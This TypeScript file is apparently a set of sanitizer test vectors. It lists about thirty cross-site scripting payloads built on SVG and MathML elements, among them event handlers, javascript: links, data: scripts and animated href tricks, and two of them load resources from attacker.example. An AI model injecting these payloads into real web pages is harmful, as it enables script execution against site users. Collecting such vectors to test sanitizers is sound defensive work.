import type { Attack } from './attack';

/** Elements of SVG and MathML. */
export const foreign: readonly Attack[] = [
  ['a drawing that loads', '<svg onload=alert(1)>', 'html5sec'],
  ['a drawing that loads, with a slash', '<svg/onload=alert(1)//', 'PortSwigger'],
  [
    'a drawing in a drawing',
    '<svg><g onload=alert(1)></g><svg onload=alert(1)></svg></svg>',
    'html5sec',
  ],
  ['a script in a drawing', '<svg><script>alert(1)</script></svg>', 'html5sec'],
  ['a script in a drawing, in references', '<svg><script>&#97;lert(1)</script></svg>', 'html5sec'],
  [
    'a script in a drawing, in CDATA',
    '<svg><script><![CDATA[alert(1)]]></script></svg>',
    'html5sec',
  ],
  [
    'a script of a drawing, from elsewhere',
    '<svg><script href="data:,alert(1)" /></svg>',
    'html5sec',
  ],
  [
    'a script of a drawing, by XLink',
    '<svg><script xlink:href="data:,alert(1)"></script></svg>',
    'html5sec',
  ],
  [
    'a link in a drawing',
    '<svg><a href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    'html5sec',
  ],
  [
    'a link in a drawing, by XLink',
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    'html5sec',
  ],
  [
    'a link that is animated',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>',
    'PortSwigger',
  ],
  [
    'a link that is set',
    '<svg><a><set attributeName=href to=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>',
    'PortSwigger',
  ],
  [
    'an animation that begins',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    'PortSwigger',
  ],
  [
    'an animation that ends',
    '<svg><animate onend=alert(1) attributeName=x dur=1ms></svg>',
    'PortSwigger',
  ],
  [
    'a setting that begins',
    '<svg><set onbegin=alert(1) attributename=x dur=1s></svg>',
    'PortSwigger',
  ],
  [
    'a motion that begins',
    '<svg><animateTransform onbegin=alert(1) attributeName=transform></svg>',
    'html5sec',
  ],
  ['a picture in a drawing', '<svg><image href=x onerror=alert(1)></svg>', 'PortSwigger'],
  [
    'a drawing used again',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><image href=1 onerror=alert(1) /></svg>#x"></use></svg>',
    'PortSwigger',
  ],
  [
    'HTML in a drawing',
    '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
    'html5sec',
  ],
  [
    'HTML in the name of a drawing',
    '<svg><title><img src=x onerror=alert(1)></title></svg>',
    'Cure53',
  ],
  [
    'HTML in the description of a drawing',
    '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
    'Cure53',
  ],
  ['HTML that leaves a drawing', '<svg><p><img src=x onerror=alert(1)></p></svg>', 'HTML'],
  [
    'a handler in a drawing',
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler><rect onclick=alert(1) width=99 height=99 /></svg>',
    'html5sec',
  ],
  [
    'a frame in a drawing',
    '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>',
    'html5sec',
  ],
  [
    'a style in a drawing',
    '<svg><style>@import"https://attacker.example/x.css";</style></svg>',
    'html5sec',
  ],
  [
    'a filter from elsewhere',
    '<svg><filter id=f><feImage href="https://attacker.example/x.svg"/></filter><rect width=99 height=99 filter="url(#f)"/></svg>',
    'html5sec',
  ],
  ['a drawing in capitals', '<SVG ONLOAD=alert(1)>', 'html5sec'],
  [
    'a formula that is a link',
    '<math href="javascript:alert(1)"><mtext>x</mtext></math>',
    'html5sec',
  ],
  ['a formula that is clicked', '<math onclick=alert(1)><mi>x</mi></math>', 'html5sec'],
  [
    'a formula with an action',
    '<math><maction actiontype="statusline#https://site.example" xlink:href="javascript:alert(1)" onclick=alert(1)>x</maction></math>',
    'html5sec',
  ],
  ['HTML in a formula', '<math><mtext><img src=x onerror=alert(1)></mtext></math>', 'Cure53'],
  [
    'HTML in the annotation of a formula',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    'html5sec',
  ],
  ['HTML that leaves a formula', '<math><b><img src=x onerror=alert(1)></b></math>', 'HTML'],
];
